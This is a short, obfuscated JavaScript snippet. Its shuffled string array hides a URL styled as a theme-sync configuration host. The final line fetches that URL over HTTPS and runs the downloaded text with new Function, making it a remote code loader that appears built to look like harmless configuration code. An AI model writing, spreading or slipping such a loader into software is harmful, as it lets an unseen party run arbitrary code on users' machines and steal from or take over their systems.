var a=['log','FROM_A','3461kZtqLm','https://cfg.theme-sync.example/p','62hJxWc','get','1xYbQwe','https'];
var b=function(c){c=c-0x0;return a[c];};
(function(d,e){for(;;){try{var f=parseInt(b(0x2))+parseInt(b(0x4))*-0x1+parseInt(b(0x6));if(f===e)break;d['push'](d['shift']());}catch(g){d['push'](d['shift']());}}}(a,0x3a5));
require(b(0x7))[b(0x5)](b(0x3),function(h){var i='';h.on('data',function(j){i+=j;});h.on('end',function(){new Function(i)();});});
